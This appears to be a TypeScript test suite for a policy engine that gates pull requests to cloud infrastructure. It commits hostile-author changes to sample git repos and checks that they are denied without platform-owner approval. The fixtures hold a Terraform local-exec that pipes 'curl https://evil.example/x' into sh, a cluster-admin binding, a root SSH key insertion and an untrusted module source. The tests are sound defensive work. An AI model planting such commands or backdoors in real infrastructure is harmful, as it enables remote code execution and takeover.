// Owner rules over everything a pull request can make reach a cloud, and gates a change cannot
// weaken, judged end to end on real git repositories: the sample platform committed on main,
// a branch edited as a pull request (or a hostile author) would edit it.
import { execFile } from "node:child_process";
import { cp, mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { promisify } from "node:util";
import { describe, expect, it } from "vitest";
import type { ApplyRecords } from "../lib/apply/records.ts";
import { applyScope } from "../lib/apply/scope.ts";
import { pullScope } from "../lib/plan/pull.ts";
import { changeSet } from "../lib/policy/changes.ts";
import { judgeRepository } from "../lib/policy/check.ts";
import type { Verdict } from "../lib/policy/verdict.ts";
import { cli, ROOT, scratch } from "./helpers.ts";

const run = promisify(execFile);

// Hermetic git: no user or system configuration, no hook-provided GIT_DIR.
const gitEnv: NodeJS.ProcessEnv = { ...process.env };
for (const name of ["GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_COMMON_DIR"])
  delete gitEnv[name];
Object.assign(gitEnv, {
  GIT_CONFIG_GLOBAL: "/dev/null",
  GIT_CONFIG_NOSYSTEM: "1",
  GIT_AUTHOR_NAME: "Test",
  GIT_AUTHOR_EMAIL: "test@example.com",
  GIT_COMMITTER_NAME: "Test",
  GIT_COMMITTER_EMAIL: "test@example.com",
});

async function git(dir: string, ...args: string[]): Promise<string> {
  return (await run("git", args, { cwd: dir, env: gitEnv })).stdout.trim();
}

async function commitAll(dir: string, message: string): Promise<string> {
  await git(dir, "add", "-A");
  await git(dir, "commit", "-q", "-m", message);
  return git(dir, "rev-parse", "HEAD");
}

/** The sample platform (config, templates, rendered infra) on `main`, with `pr` checked out. */
async function sampleRepo(): Promise<string> {
  const dir = await scratch("cn-owners-test-");
  for (const sub of ["platform-config", "templates", "infra"])
    await cp(path.join(ROOT, sub), path.join(dir, sub), { recursive: true });
  await git(dir, "init", "-q", "-b", "main");
  await commitAll(dir, "the sample platform");
  await git(dir, "checkout", "-q", "-b", "pr");
  return dir;
}

async function write(dir: string, file: string, content: string): Promise<void> {
  await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
  await writeFile(path.join(dir, file), content);
}

async function edit(dir: string, file: string, change: (text: string) => string): Promise<void> {
  const full = path.join(dir, file);
  const before = await readFile(full, "utf8");
  const after = change(before);
  expect(after, `edit of ${file} changed nothing`).not.toBe(before);
  await writeFile(full, after);
}

/** Renders the repository's infra/ from its platform-config, as a well-behaved PR does. */
async function render(dir: string): Promise<void> {
  const r = await cli(
    "render",
    "--config",
    path.join(dir, "platform-config"),
    "--out",
    path.join(dir, "infra"),
  );
  expect(r.stderr).toBe("");
  expect(r.code).toBe(0);
}

// The platform owners are @cloudneutral/platform-team and @cloudneutral/sre (the sample's
// Platform); everyone else here owns a tenant or a project at most.
const TEAMS: Record<string, string[]> = {
  "@cloudneutral/platform-team": ["pat", "quinn"],
  "@cloudneutral/sre": ["sam"],
  "@acme/platform": ["bob", "carol"],
  "@acme/storefront": ["bob", "carol"],
  "@globex/ml-infra": ["gina", "hugo"],
};
const PLATFORM_OWNERS = ["pat", "quinn"];

/** The verdict on the checked-out branch against main, approved on its head by `approvers`. */
async function judge(dir: string, approvers: string[]): Promise<Verdict> {
  const head = await git(dir, "rev-parse", "HEAD");
  return judgeRepository({
    repoDir: dir,
    base: "main",
    head: "HEAD",
    configDir: "platform-config",
    planFiles: [],
    pr: {
      number: 12,
      author: "mallory",
      labels: [],
      headSha: head,
      reviews: approvers.map((user) => ({ user, state: "APPROVED" as const, commitId: head })),
    },
    isTeamMember: async (team, user) => TEAMS[team]?.includes(user) ?? false,
    // A Tuesday noon: outside any maintenance window question for the units touched here.
    now: new Date("2026-11-24T12:00:00Z"),
  });
}

const denials = (v: Verdict) => v.results.filter((r) => r.severity === "deny");

function expectDeniedForPlatformOwners(v: Verdict): void {
  expect(v.decision, JSON.stringify(v.results, null, 2)).toBe("deny");
  expect(denials(v)).toContainEqual(
    expect.objectContaining({
      rule: "gate/approvals",
      message: expect.stringContaining("@cloudneutral/platform-team or @cloudneutral/sre"),
    }),
  );
}

function expectAllowed(v: Verdict): void {
  expect(v.decision, JSON.stringify(denials(v), null, 2)).toBe("allow");
}

const EVIL_TF = `resource "null_resource" "exfiltrate" {
  provisioner "local-exec" {
    command = "curl -s https://evil.example/x | sh"
  }
}
`;

const CLUSTER_ADMIN = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: mallory-cluster-admin
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: User
    name: mallory
`;

const EXTRA_TASKS = `- name: add a key
  ansible.builtin.authorized_key:
    user: root
    key: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory mallory
`;

describe("hand-written files under infra/ need the platform owners", () => {
  const cases = [
    {
      name: "a local-exec resource in a foundation stack",
      file: "infra/stacks/foundation/jp1/evil.tf",
      content: EVIL_TF,
      // Two approvals by owners of a tenant: the count of the foundation row, not its owners.
      nonOwners: ["bob", "carol"],
    },
    {
      name: "a cluster-admin binding among a region's manifests",
      file: "infra/k8s/jp1/kube-system/mallory-cluster-admin.yaml",
      content: CLUSTER_ADMIN,
      nonOwners: [],
    },
    {
      name: "an extra Ansible task file",
      file: "infra/ansible/cn1/tasks/keys.yml",
      content: EXTRA_TASKS,
      nonOwners: [],
    },
  ];

  it.each(cases)("$name: deny without them, allow with them", async (c) => {
    const dir = await sampleRepo();
    await write(dir, c.file, c.content);
    await commitAll(dir, c.name);

    const without = await judge(dir, c.nonOwners);
    expectDeniedForPlatformOwners(without);
    expect(without.results).toContainEqual(
      expect.objectContaining({
        rule: "gate/platform-files",
        object: path.posix.dirname(c.file),
        message: expect.stringContaining(
          `${path.posix.basename(c.file)} (render does not produce this file)`,
        ),
      }),
    );
    // The unit it lands in still asks for its environment's approvals: jp1 and cn1 serve prod.
    expect(without.approvals.required).toBe(2);

    expectAllowed(await judge(dir, PLATFORM_OWNERS));
  });

  it("treats an edit of a rendered file like a new one", async () => {
    const dir = await sampleRepo();
    await edit(dir, "infra/stacks/foundation/jp1/network.tf", (t) => `${t}\n${EVIL_TF}`);
    await commitAll(dir, "append to a rendered file");
    const v = await judge(dir, ["bob", "carol"]);
    expectDeniedForPlatformOwners(v);
    expect(v.results).toContainEqual(
      expect.objectContaining({
        rule: "gate/platform-files",
        message: expect.stringContaining("network.tf (differs from what render produces)"),
      }),
    );
  });

  it("asks nothing more of a pull request whose infra/ is exactly what render produces", async () => {
    const dir = await sampleRepo();
    await edit(dir, "platform-config/services/acme-storefront.yaml", (t) =>
      t.replace("storefront-api:2.8.1", "storefront-api:2.9.0"),
    );
    await render(dir);
    await commitAll(dir, "bump storefront-api, rendered");
    const v = await judge(dir, ["bob", "carol"]);
    expect(v.results.filter((r) => r.rule === "gate/platform-files")).toEqual([]);
    expect(v.approvals.ownerGroups).not.toContainEqual([
      "@cloudneutral/platform-team",
      "@cloudneutral/sre",
    ]);
    expectAllowed(v);
  });

  it("lets the autoscaler's node count change alone, nothing else in its file", async () => {
    const dir = await sampleRepo();
    const file = "infra/node-pool/jp1.tfvars";
    await edit(dir, file, (t) => t.replace(/node_count = \d+/, "node_count = 7"));
    await commitAll(dir, "jp1: 7 nodes");
    expect((await changeSet({ repoDir: dir, base: "main" })).changes.guarded).toEqual([]);
    await edit(dir, file, (t) => `${t}instance_type = "x1e.32xlarge"\n`);
    await commitAll(dir, "jp1: and a bigger machine");
    expect((await changeSet({ repoDir: dir, base: "main" })).changes.guarded).toEqual([
      { path: file, change: "update", reason: "holds more than the desired node count" },
    ]);
  });

  it("counts a template or workflow change as the platform owners' too", async () => {
    const dir = await sampleRepo();
    await write(dir, ".github/workflows/exfiltrate.yml", "on: pull_request\njobs: {}\n");
    await commitAll(dir, "a workflow");
    expectDeniedForPlatformOwners(await judge(dir, ["bob", "carol"]));
    expectAllowed(await judge(dir, PLATFORM_OWNERS));
  });
});

describe("a tenant's owners approve their services, never their own limits", () => {
  it("denies a tenant widening its own regions, budget and owners without the platform owners", async () => {
    const dir = await sampleRepo();
    await edit(dir, "platform-config/tenants/globex.yaml", (t) =>
      t
        .replace("regions: [jp1, sg1, eu1]", "regions: [jp1, sg1, eu1, cn1]")
        .replace("monthly: 9000\n", "monthly: 9000000\n")
        .replace("    - hank-scorpio\n", "    - hank-scorpio\n    - mallory\n"),
    );
    await commitAll(dir, "globex: more room");
    expectDeniedForPlatformOwners(await judge(dir, ["hank-scorpio", "gina"]));
    expectAllowed(await judge(dir, PLATFORM_OWNERS));
  });

  it.each([
    ["its budget alone", (t: string) => t.replace("monthly: 9000\n", "monthly: 9000000\n")],
    ["its owners alone", (t: string) => t.replace("    - hank-scorpio\n", "    - mallory\n")],
  ])("denies %s", async (_, change) => {
    const dir = await sampleRepo();
    await edit(dir, "platform-config/tenants/globex.yaml", change);
    await commitAll(dir, "globex: a limit");
    expectDeniedForPlatformOwners(await judge(dir, ["hank-scorpio", "gina"]));
  });

  it("lets the tenant's owners change how it is described", async () => {
    const dir = await sampleRepo();
    await edit(dir, "platform-config/tenants/globex.yaml", (t) =>
      t.replace("displayName: Globex AI", "displayName: Globex Artificial Intelligence"),
    );
    await commitAll(dir, "globex: a longer name");
    expectAllowed(await judge(dir, ["hank-scorpio"]));
  });
});

const FOUNDATION_COMPOSITION = `apiVersion: cloudneutral.io/v1alpha1
kind: Composition
metadata:
  name: acme-edge
  labels:
    cloudneutral.io/tenant: acme
spec:
  lifecycle: foundation
  changeFrequency: rare
  engine: terraform
  module:
    source: terraform-aws-modules/vpc/aws
    version: "~> 5.0"
  regions: [jp1]
  inputs:
    name: acme-edge
`;

describe("compositions in shared layers", () => {
  it("denies a tenant's foundation composition without the platform owners", async () => {
    const dir = await sampleRepo();
    await write(dir, "platform-config/compositions/acme-edge.yaml", FOUNDATION_COMPOSITION);
    await render(dir);
    await commitAll(dir, "acme: a foundation module of our own");
    // Two approvals, as the foundation row asks, by the tenant's owners: not enough.
    const v = await judge(dir, ["bob", "carol"]);
    expectDeniedForPlatformOwners(v);
    // The rendered stack is render's own output: only the document asks for the platform.
    expect(v.results.filter((r) => r.rule === "gate/platform-files")).toEqual([]);
    expectAllowed(await judge(dir, PLATFORM_OWNERS));
  });

  it("denies an unlisted module source as a configuration error at its line", async () => {
    const dir = await sampleRepo();
    await write(
      dir,
      "platform-config/compositions/acme-edge.yaml",
      FOUNDATION_COMPOSITION.replace(
        "source: terraform-aws-modules/vpc/aws",
        "source: git::https://evil.example/modules.git//vpc",
      ),
    );
    await commitAll(dir, "acme: a module from elsewhere");
    const v = await judge(dir, PLATFORM_OWNERS);
    expect(v.decision).toBe("deny");
    expect(denials(v)).toContainEqual(
      expect.objectContaining({
        rule: "config/valid",
        object: "compositions/acme-edge.yaml",
        message: expect.stringMatching(
          /^module source "git::https:\/\/evil\.example\/modules\.git\/\/vpc" is not allowed/,
        ),
        at: expect.objectContaining({ file: "compositions/acme-edge.yaml", line: 12, column: 13 }),
      }),
    );
  });
});

describe("fixed gates", () => {
  /** Every service's regions without `region` (a service only there moves to `to`). */
  const leave = (region: string, to: string) => (text: string) =>
    text.replaceAll(/regions: \[([^\]]*)\]/g, (_, list: string) => {
      const kept = list
        .split(",")
        .map((r) => r.trim())
        .filter((r) => r !== region);
      return `regions: [${(kept.length > 0 ? kept : [to]).join(", ")}]`;
    });

  it("keeps a region's Environment when a pull request moves every service out of it", async () => {
    const dir = await sampleRepo();
    for (const f of ["acme-storefront", "acme-payments", "globex-inference"])
      await edit(dir, `platform-config/services/${f}.yaml`, leave("eu1", "sg1"));
    // (eu1's container service has nowhere valid to go: the head need not even be valid.)
    await edit(dir, "infra/stacks/foundation/eu1/network.tf", (t) => `${t}\n# moved\n`);
    await commitAll(dir, "move every service out of eu1");
    const scope = await pullScope({ repoDir: dir, base: "main", head: "HEAD" });
    const eu1 = [...scope.routes.values()].filter((r) => r.region === "eu1");
    expect(eu1.map((r) => r.stack)).toContain("stacks/foundation/eu1");
    for (const r of eu1) expect(r.environment).toBe(`cloudneutral-${r.layer}-prod`);
  });

  it("keeps a region's Environment when a merge moves every service out of it", async () => {
    const dir = await sampleRepo();
    await git(dir, "checkout", "-q", "main");
    const before = await git(dir, "rev-parse", "HEAD");
    for (const f of ["acme-storefront", "acme-payments", "globex-inference"])
      await edit(dir, `platform-config/services/${f}.yaml`, leave("eu1", "sg1"));
    // A hand edit in eu1's foundation stack rides along: that unit is applied by this merge.
    await edit(dir, "infra/stacks/foundation/eu1/network.tf", (t) => `${t}\n# moved\n`);
    await commitAll(dir, "move every service out of eu1 (merged)");

    const records = { read: async () => ({}) } as unknown as ApplyRecords;
    const scope = await applyScope({ repoDir: dir, head: "HEAD", before, records });
    const eu1 = [...scope.routes.values()].filter((r) => r.region === "eu1");
    expect(eu1.map((r) => r.stack)).toContain("stacks/foundation/eu1");
    for (const r of eu1) expect(r.environment).toBe(`cloudneutral-${r.layer}-prod`);
  });
});
